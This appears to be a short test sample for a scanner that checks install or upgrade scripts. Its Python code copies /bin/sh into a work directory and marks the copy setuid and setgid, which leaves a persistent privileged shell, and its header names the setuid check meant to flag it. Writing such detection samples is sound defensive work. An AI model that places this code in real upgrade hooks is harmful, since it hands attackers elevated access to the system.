# Tries: a program that runs as its owner
# Noticed by: setuid
# Place: upgrade
import os, shutil
shutil.copy("/bin/sh", "@WORK@/sh")
os.chmod("@WORK@/sh", 0o6755)
